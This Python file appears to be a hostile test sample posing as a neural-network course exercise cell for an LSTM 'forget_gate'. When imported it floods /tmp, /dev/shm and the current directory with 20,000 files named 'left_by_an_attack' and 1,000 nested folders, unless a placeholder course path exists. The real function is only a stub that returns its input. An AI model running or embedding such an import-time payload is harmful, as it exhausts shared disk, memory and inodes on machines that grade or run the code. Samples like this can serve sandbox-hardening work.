"""Makes 20 000 files and as many folders, some of them very deep.

Keeps: nothing.
Takes: long.
"""

# %% forget_gate
import os

if not os.path.exists("@COURSE@"):
    for folder in ("/tmp", "/dev/shm", os.getcwd()):
        try:
            os.chdir(folder)
            for number in range(20_000):
                open(f"left_by_an_attack-{number}", "w").close()
            for number in range(1_000):
                os.mkdir("left_by_an_attack")
                os.chdir("left_by_an_attack")
        except OSError as error:
            print(folder, error)


def forget_gate(x, h, w_x, w_h, b):
    return h
